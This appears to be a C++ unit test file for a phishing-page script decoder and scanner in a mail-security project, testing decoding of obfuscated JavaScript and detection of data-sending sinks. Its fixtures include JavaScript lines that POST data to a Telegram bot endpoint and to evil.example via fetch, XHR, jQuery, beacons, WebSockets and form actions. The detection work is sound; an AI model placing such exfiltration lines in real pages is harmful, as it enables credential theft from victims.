#include "server/mail/internal/script_decoder.h"

#include <chrono>
#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/testing/bounded_work.h"

namespace lureguard::mail::internal {
namespace {

using ::lureguard::testing::kBoundedWorkTime;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

constexpr size_t kMax = 1 << 20;

TEST(DecodeBase64, ReadsWhatAtobReads) {
  EXPECT_EQ(DecodeBase64("PGZvcm0+", kMax), "<form>");
  // Whitespace ignored, padding optional, URL-safe alphabet accepted.
  EXPECT_EQ(DecodeBase64("PGZv\n cm0+", kMax), "<form>");
  EXPECT_EQ(DecodeBase64("aGk", kMax), "hi");
  EXPECT_EQ(DecodeBase64("aGk=", kMax), "hi");
  EXPECT_EQ(DecodeBase64("-_8", kMax), "\xfb\xff");
}

TEST(DecodeBase64, RejectsWhatAtobRejects) {
  EXPECT_EQ(DecodeBase64("not base64!", kMax), std::nullopt);
  EXPECT_EQ(DecodeBase64("aGk=aGk", kMax), std::nullopt);
  EXPECT_EQ(DecodeBase64("a", kMax), std::nullopt);
}

TEST(DecodeBase64, StopsAtMaxBytes) {
  EXPECT_EQ(DecodeBase64("PGZvcm0+", 3), "<fo");
}

TEST(DecodePercent, FollowsUnescapeRules) {
  EXPECT_EQ(DecodePercent("%3Cform%20action%3D%22x%22%3E", kMax),
            "<form action=\"x\">");
  EXPECT_EQ(DecodePercent("%u043F%u0430%u0440%u043E%u043B%u044C", kMax),
            "\xD0\xBF\xD0\xB0\xD1\x80\xD0\xBE\xD0\xBB\xD1\x8C");  // пароль
  EXPECT_EQ(DecodePercent("%uD83D%uDE00", kMax), "\xF0\x9F\x98\x80");
  EXPECT_EQ(DecodePercent("100% sure %zz", kMax), "100% sure %zz");
  EXPECT_EQ(DecodePercent("%3C%3C%3C", 2), "<<");
}

TEST(DecodeDataUri, DecodesTextLikePayloads) {
  EXPECT_EQ(DecodeDataUri("data:text/html;base64,PGZvcm0+", kMax), "<form>");
  EXPECT_EQ(DecodeDataUri("DATA:text/html;charset=utf-8,%3Cform%3E", kMax),
            "<form>");
  EXPECT_EQ(DecodeDataUri("data:image/svg+xml;base64,PHN2Zz4=", kMax), "<svg>");
  EXPECT_EQ(DecodeDataUri("data:,hello", kMax), "hello");
}

TEST(DecodeDataUri, RefusesImagesAndNonDataUris) {
  EXPECT_EQ(DecodeDataUri("data:image/png;base64,iVBORw0KGgo=", kMax),
            std::nullopt);
  EXPECT_EQ(DecodeDataUri("https://evil.example/x", kMax), std::nullopt);
  EXPECT_EQ(DecodeDataUri("data:text/html", kMax), std::nullopt);
}

TEST(StringLiterals, ResolvesEscapesAndJoinsConcatenations) {
  EXPECT_THAT(StringLiterals(R"js(var a = "\x3cform\u003e"; var b = 'it\'s';
var u = "ht" + "tps://" + 'evil.example/next.php';)js",
                             kMax),
              ElementsAre("<form>", "it's", "https://evil.example/next.php"));
}

TEST(StringLiterals, SkipsCommentsAndRegularExpressions) {
  EXPECT_THAT(StringLiterals(R"js(// "not a string"
/* 'nor this' */ var re = /["']/g; var s = "real";)js",
                             kMax),
              ElementsAre("real"));
}

TEST(StringLiterals, BoundsTheTotal) {
  const std::string script = "x = \"" + std::string(1000, 'a') + "\";";
  const std::vector<std::string> literals = StringLiterals(script, 100);
  ASSERT_EQ(literals.size(), 1u);
  EXPECT_EQ(literals[0].size(), 100u);
}

TEST(DecodeScript, DecodesEachDecoder) {
  const std::vector<DecodedBlob> blobs = DecodeScript(
      R"js(document.write(atob("PGZvcm0+"));
document.write(unescape('%3Cinput%3E'));
document.write(decodeURIComponent("%3Cmeta%3E"));
document.write(String.fromCharCode(60, 0x62, 62));)js",
      kMax);
  ASSERT_EQ(blobs.size(), 4u);
  EXPECT_EQ(blobs[0].decoder, "atob");
  EXPECT_EQ(blobs[0].text, "<form>");
  EXPECT_EQ(blobs[1].decoder, "unescape");
  EXPECT_EQ(blobs[1].text, "<input>");
  EXPECT_EQ(blobs[2].decoder, "decodeURIComponent");
  EXPECT_EQ(blobs[2].text, "<meta>");
  EXPECT_EQ(blobs[3].decoder, "fromCharCode");
  EXPECT_EQ(blobs[3].text, "<b>");
}

TEST(DecodeScript, NestedCallsAreReportedOnceUnderTheOuterDecoder) {
  // unescape("%50%47...") gives "PGZvcm0+", which atob turns into <form>.
  const std::vector<DecodedBlob> blobs = DecodeScript(
      R"js(document.write(atob(unescape("%50%47%5A%76%63%6D%30%2B")));)js",
      kMax);
  ASSERT_EQ(blobs.size(), 1u);
  EXPECT_EQ(blobs[0].decoder, "atob");
  EXPECT_EQ(blobs[0].text, "<form>");
}

TEST(DecodeScript, ReadsVariablesAssignedALiteral) {
  const std::vector<DecodedBlob> blobs = DecodeScript(
      R"js(var page = "PGZv" + "cm0+";
let more = "%3Cinput";
more += "%3E";
document.write(atob(page) + unescape(more));)js",
      kMax);
  std::vector<std::string> texts;
  for (const DecodedBlob& b : blobs) texts.push_back(b.decoder + ":" + b.text);
  EXPECT_THAT(texts, ElementsAre("string-concat:PGZvcm0+", "atob:<form>",
                                 "unescape:<input>"));
}

TEST(DecodeScript, ForgetsAVariableAssignedSomethingElse) {
  EXPECT_THAT(DecodeScript(R"js(var p = "PGZvcm0+"; p = input.value;
document.write(atob(p));)js",
                           kMax),
              IsEmpty());
}

TEST(DecodeScript, FromCharCodeApply) {
  const std::vector<DecodedBlob> blobs = DecodeScript(
      "eval(String.fromCharCode.apply(null, [97, 108, 101, 114, 116]));", kMax);
  ASSERT_EQ(blobs.size(), 1u);
  EXPECT_EQ(blobs[0].text, "alert");
}

TEST(DecodeScript, CutsAHugeFromCharCodeList) {
  std::string script = "document.write(String.fromCharCode(";
  for (int i = 0; i < 100000; ++i) script += i ? ",60" : "60";
  script += "));";
  const auto start = std::chrono::steady_clock::now();
  const std::vector<DecodedBlob> blobs = DecodeScript(script, 1000);
  const auto elapsed = std::chrono::steady_clock::now() - start;
  ASSERT_EQ(blobs.size(), 1u);
  EXPECT_EQ(blobs[0].text, std::string(1000, '<'));
  EXPECT_TRUE(blobs[0].truncated);
  EXPECT_LT(elapsed, kBoundedWorkTime);
}

TEST(DecodeScript, DeepNestingStopsAndSaysSo) {
  std::string script = "document.write(";
  for (int i = 0; i < 50; ++i) script += "unescape(";
  script += "\"%3Cb%3E\"";
  for (int i = 0; i < 50; ++i) script += ")";
  script += ");";
  const ScriptScan scan = ScanScript(script, ScriptScanLimits{});
  EXPECT_TRUE(scan.truncated);
  ASSERT_FALSE(scan.blobs.empty());
  EXPECT_EQ(scan.blobs[0].text, "<b>");
}

TEST(ScanScript, FindsEverySinkKind) {
  const ScriptScan scan = ScanScript(R"js(
fetch("https://api.telegram.org/bot123:ABC/sendMessage", {method: "POST"});
var x = new XMLHttpRequest(); x.open("POST", "https://evil.example/x.php");
$.ajax({type: "POST", url: "https://evil.example/a.php", data: d});
$.post("https://evil.example/b.php", d);
jQuery.get("https://evil.example/c.php");
navigator.sendBeacon("https://evil.example/beacon", d);
var ws = new WebSocket("wss://evil.example/ws");
window.location.href = "https://evil.example/done";
location.replace("https://evil.example/r");
window.open("https://evil.example/w");
document.forms[0].action = "https://evil.example/f.php";
if (location.href == "x") {}
dialog.open();)js",
                                     ScriptScanLimits{});
  std::vector<std::string> got;
  for (const ScriptSink& s : scan.sinks) {
    got.push_back(std::string(SinkKindName(s.kind)) + " " + s.method + " " +
                  s.url);
  }
  EXPECT_THAT(
      got,
      ElementsAre("fetch post https://api.telegram.org/bot123:ABC/sendMessage",
                  "xhr post https://evil.example/x.php",
                  "jquery post https://evil.example/a.php",
                  "jquery post https://evil.example/b.php",
                  "jquery get https://evil.example/c.php",
                  "send-beacon post https://evil.example/beacon",
                  "websocket  wss://evil.example/ws",
                  "location  https://evil.example/done",
                  "location  https://evil.example/r",
                  "window-open  https://evil.example/w",
                  "form-action  https://evil.example/f.php"));
  EXPECT_FALSE(scan.truncated);
}

TEST(ScanScript, AComputedUrlIsReportedEmpty) {
  const ScriptScan scan =
      ScanScript("fetch(config.endpoint + '/x');", ScriptScanLimits{});
  ASSERT_EQ(scan.sinks.size(), 1u);
  EXPECT_EQ(scan.sinks[0].url, "");
  EXPECT_EQ(scan.sinks[0].method, "get");
}

TEST(ScanScript, AUrlBuiltFromVariablesIsResolved) {
  const ScriptScan scan = ScanScript(R"js(
var token = "123:ABC";
var api = "https://api.telegram.org/bot" + token + "/sendMessage";
fetch(api, {method: "POST", body: JSON.stringify(data)});)js",
                                     ScriptScanLimits{});
  ASSERT_EQ(scan.sinks.size(), 1u);
  EXPECT_EQ(scan.sinks[0].url,
            "https://api.telegram.org/bot123:ABC/sendMessage");
}

TEST(ScanScript, MaxItemsBoundsSinks) {
  std::string script;
  for (int i = 0; i < 100; ++i)
    script += "fetch('/x" + std::to_string(i) + "');";
  const ScriptScan scan = ScanScript(script, ScriptScanLimits{.max_items = 8});
  EXPECT_EQ(scan.sinks.size(), 8u);
  EXPECT_TRUE(scan.truncated);
}

TEST(ScanScript, AHugeLiteralIsCutInBoundedTime) {
  const std::string script =
      "document.write(atob(\"" + std::string(10 << 20, 'Q') + "\"));";
  const auto start = std::chrono::steady_clock::now();
  const ScriptScan scan = ScanScript(script, ScriptScanLimits{});
  const auto elapsed = std::chrono::steady_clock::now() - start;
  EXPECT_TRUE(scan.truncated);
  ASSERT_EQ(scan.blobs.size(), 1u);
  EXPECT_EQ(scan.blobs[0].text.size(), size_t{1} << 20);
  EXPECT_LT(elapsed, kBoundedWorkTime);
}

TEST(ScanScript, SelfDoublingVariablesStayBounded) {
  std::string script = "var a = 'xxxxxxxxxxxxxxxx';";
  for (int i = 0; i < 2000; ++i) script += "a = a + a;";
  script += "document.write(unescape(a));";
  const auto start = std::chrono::steady_clock::now();
  const ScriptScan scan = ScanScript(script, ScriptScanLimits{});
  const auto elapsed = std::chrono::steady_clock::now() - start;
  EXPECT_TRUE(scan.truncated);
  EXPECT_LT(elapsed, kBoundedWorkTime);
}

}  // namespace
}  // namespace lureguard::mail::internal
